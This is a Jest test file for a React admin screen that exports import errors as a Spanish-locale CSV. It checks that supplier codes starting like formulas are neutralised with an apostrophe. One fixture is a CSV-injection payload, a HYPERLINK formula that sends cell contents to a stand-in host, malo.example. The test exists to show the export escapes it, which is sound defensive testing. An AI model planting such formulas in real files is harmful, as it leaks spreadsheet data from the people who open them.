import type { DryRun, ImportJob } from '@/shared/schemas/catalog-io';
import { adminSessionState } from '@/testing/admin-session';
import { installFakeApi } from '@/testing/fake-api';
import { renderWithProviders, screen, userEvent } from '@/testing/test-utils';
import { CatalogIoAdmin } from './catalog-io-admin';

jest.setTimeout(30_000);

/*
 * 'Descargar errores' writes a CSV for Excel in Spanish: a supplier's code that starts like a
 * formula comes out neutralised, and a code the export had written `'=1+1` (the import reads it
 * as `=1+1`) comes out as `'=1+1` again, never as a live formula.
 */

const HYPERLINK = '=HYPERLINK("http://malo.example/?d="&A1,"Ver")';
const PRICE_ERROR = 'El precio «diez» no es un número válido (ej.: 1234.50 o 1.234,50).';

const review: DryRun = {
  kind: 'products',
  token: 'b'.repeat(64),
  total: 4,
  counts: { create: 0, update: 0, unchanged: 1, error: 3 },
  rows: [
    { line: 2, code: 'arado', action: 'unchanged', changes: [], errors: [] },
    { line: 3, code: HYPERLINK, action: 'error', changes: [], errors: [PRICE_ERROR] },
    { line: 4, code: '=1+1', action: 'error', changes: [], errors: ['Falta el nombre.'] },
    { line: 5, code: '-2+3', action: 'error', changes: [], errors: ['Uno; dos', 'tres'] },
  ],
};

const finishedJob: ImportJob = {
  id: 9,
  kind: 'products',
  file_name: 'proveedor.csv',
  status: 'done',
  total: 2,
  done: 2,
  counts: { create: 1, update: 0, unchanged: 0, error: 1 },
  errors: [{ line: 3, code: '@SUM(A1)', errors: [PRICE_ERROR] }],
  created_at: '2026-12-01T14:00:00.000Z',
  finished_at: '2026-12-01T14:00:02.000Z',
};

describe("'Descargar errores'", () => {
  let api: ReturnType<typeof installFakeApi>;
  const downloads: Array<{ name: string; blob: Blob }> = [];
  let pending: Blob | undefined;
  const original = {
    create: URL.createObjectURL,
    revoke: URL.revokeObjectURL,
    click: HTMLAnchorElement.prototype.click,
  };

  beforeEach(() => {
    downloads.length = 0;
    URL.createObjectURL = (blob: Blob) => {
      pending = blob as Blob;
      return 'blob:errores';
    };
    URL.revokeObjectURL = () => undefined;
    HTMLAnchorElement.prototype.click = function click(this: HTMLAnchorElement) {
      downloads.push({ name: this.download, blob: pending! });
    };
  });
  afterEach(() => {
    api.restore();
    URL.createObjectURL = original.create;
    URL.revokeObjectURL = original.revoke;
    HTMLAnchorElement.prototype.click = original.click;
  });

  const fileText = async () => {
    expect(downloads).toHaveLength(1);
    expect(downloads[0].name).toBe('errores-importacion.csv');
    expect(downloads[0].blob.type).toBe('text/csv;charset=utf-8');
    // jsdom's Blob has no arrayBuffer(); its FileReader does. The BOM is kept to be checked.
    const bytes = await new Promise<ArrayBuffer>((resolve, reject) => {
      const reader = new FileReader();
      reader.onload = () => resolve(reader.result as ArrayBuffer);
      reader.onerror = () => reject(reader.error);
      reader.readAsArrayBuffer(downloads[0].blob);
    });
    return new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  };

  it('of a review neutralises every code that starts like a formula', async () => {
    api = installFakeApi((url, method) => {
      if (url.pathname === '/api/admin/catalog/import/last') return { body: { job: null } };
      if (method === 'POST' && url.pathname === '/api/admin/catalog/import')
        return { body: review };
      return undefined;
    });
    renderWithProviders(<CatalogIoAdmin />, { preloadedState: adminSessionState() });
    const user = userEvent.setup();
    await user.upload(
      screen.getByLabelText(/Archivo CSV o Excel/),
      new File(['codigo,precio\narado,10'], 'proveedor.csv', { type: 'text/csv' }),
    );
    await user.click(screen.getByRole('button', { name: 'Revisar' }));
    await user.click(await screen.findByRole('button', { name: 'Descargar errores' }));

    expect(await fileText()).toBe(
      '\uFEFFfila;codigo;mensaje\r\n' +
        `3;"'=HYPERLINK(""http://malo.example/?d=""&A1,""Ver"")";${PRICE_ERROR}\r\n` +
        "4;'=1+1;Falta el nombre.\r\n" +
        `5;'-2+3;"Uno; dos tres"\r\n`,
    );
  });

  it('of a finished import does the same', async () => {
    api = installFakeApi((url) =>
      url.pathname === '/api/admin/catalog/import/last'
        ? { body: { job: finishedJob } }
        : url.pathname === '/api/admin/catalog/import/9'
          ? { body: finishedJob }
          : undefined,
    );
    renderWithProviders(<CatalogIoAdmin />, { preloadedState: adminSessionState() });
    const user = userEvent.setup();
    await user.click(await screen.findByRole('button', { name: 'Descargar errores' }));

    expect(await fileText()).toBe(`\uFEFFfila;codigo;mensaje\r\n3;'@SUM(A1);${PRICE_ERROR}\r\n`);
  });
});
